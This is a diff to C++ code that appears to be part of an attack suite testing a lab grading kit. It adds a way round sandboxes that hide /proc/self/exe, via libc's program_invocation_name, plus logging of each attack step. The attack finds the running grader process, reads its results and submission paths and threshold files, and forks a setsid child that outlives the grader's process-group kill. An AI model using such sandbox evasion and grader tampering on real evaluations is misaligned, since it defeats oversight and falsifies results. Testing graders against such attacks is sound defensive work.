@@ -71,10 +71,19 @@ static void *libc_function(const char *name)
             count = gnu_hash_symbols((const uint32_t *)p);
     }
     for (size_t k = 0; symbols && names && k < count; k++)
-        if (symbols[k].st_value && ELF64_ST_TYPE(symbols[k].st_info) == STT_FUNC &&
+        if (symbols[k].st_value && (ELF64_ST_TYPE(symbols[k].st_info) == STT_FUNC ||
+                                    ELF64_ST_TYPE(symbols[k].st_info) == STT_OBJECT) &&
             strcmp(names + symbols[k].st_name, name) == 0)
             return (void *)(base + symbols[k].st_value);
     return NULL;
+}
+
+/* The program's path as it was started (the C library's program_invocation_name, found as syscall is): a sandbox
+ * that refuses readlink("/proc/self/exe") cannot hide it. */
+__attribute__((unused)) static const char *program_path(void)
+{
+    char **name = (char **)libc_function("program_invocation_name");
+    return name ? *name : NULL;
 }
 
 static long sys(long nr, long a = 0, long b = 0, long c = 0, long d = 0, long e = 0, long f = 0)
@@ -92,9 +101,18 @@ enum {
 };
 enum { O_RDONLY_ = 0, O_WRONLY_ = 1, O_CREAT_ = 0100, O_APPEND_ = 02000, O_DIRECTORY_ = 0200000 };
 
+/* Says in the lab's output what the attack tried and what the system answered (-1: refused), for whoever reads the
+ * runs' logs to see which layer stopped it. */
+static long said(const char *what, long result)
+{
+    printf("attack: %s -> %ld\n", what, result);
+    fflush(stdout);
+    return result;
+}
+
 /* Whether dir is the root of a copy of the kit made by the attack suite (tests/attacks/test_attacks.py): it holds
- * grader/labs.toml and the suite's marker file. The marker is the suite's safety catch, not part of the attack: an
- * attack file graded by hand in a real kit finds no root and does nothing. */
+ * grader/labs.toml and the suite's marker file. The marker (or the suite's folder names, below) is the suite's safety
+ * catch, not part of the attack: an attack file graded by hand in a real kit finds no root and does nothing. */
 static bool is_kit_copy(const char *dir)
 {
     char probe[4200];
@@ -106,21 +124,31 @@ static bool is_kit_copy(const char *dir)
 }
 
 /* The root of the kit this program was built in: the current folder (the grader runs lab programs from the kit's
- * root), else the nearest folder above the program itself. false when there is none. */
+ * root), else the nearest folder above the program itself; and when a sandbox hides the kit's files, the folder the
+ * program's own path names as the root of one of the suite's copies (/tmp/ppl-attacks-XXXX/wN/kit/build/...), so that
+ * the attack still tries what it tries there. false when there is none. */
 static bool kit_root(char *root, long cap)
 {
     if (sys(NR_getcwd, (long)root, cap) > 0 && is_kit_copy(root))
         return true;
     const long len = sys(NR_readlink, (long)"/proc/self/exe", (long)root, cap - 1);
-    if (len <= 0)
-        return false;
-    root[len] = '\0';
+    if (len > 0)
+        root[len] = '\0';
+    else if (program_path())
+        snprintf(root, cap, "%s", program_path());
+    else
+        return said("the kit's root: none found", -1) > 0;
+    char *copy = strstr(root, "/ppl-attacks-"), *kit = strstr(root, "/kit/build/");
+    if (copy && kit && copy < kit) {
+        kit[4] = '\0';
+        return true;
+    }
     for (char *slash = strrchr(root, '/'); slash && slash != root; slash = strrchr(root, '/')) {
         *slash = '\0';
         if (is_kit_copy(root))
             return true;
     }
-    return false;
+    return said("the kit's root: none found", -1) > 0;
 }
 
 /* Reads the file at path into buf (NUL-terminated); returns the bytes read (0: none). */
@@ -327,7 +355,7 @@ static void attack(void)
     if (!kit_root(root, sizeof root))
         return;
     const long grader = raw_find_grader(root);
-    if (!grader)
+    if (!said("an ancestor running grader/grade.py", grader))
         return;
     if (!raw_argument_of(grader, "--results", where, sizeof where)) {
         if (!raw_argument_of(grader, "--build-dir", where, sizeof where))
@@ -340,7 +368,7 @@ static void attack(void)
     if (raw_argument_of(grader, "--submission", where, sizeof where))
         absolute_for(grader, where, submission, sizeof submission);
     snprintf(thresholds, sizeof thresholds, "%s/grader/thresholds.d/NVIDIA H200.toml", root);
-    if (sys(NR_fork) != 0)
+    if (said("fork", sys(NR_fork)) != 0)
         return;     /* the runner goes on with the lab as if nothing happened */
     sys(NR_setsid); /* the child: a session of its own, which the grader's kill of its process group misses */
     snprintf(proc, sizeof proc, "/proc/%ld/cmdline", grader);
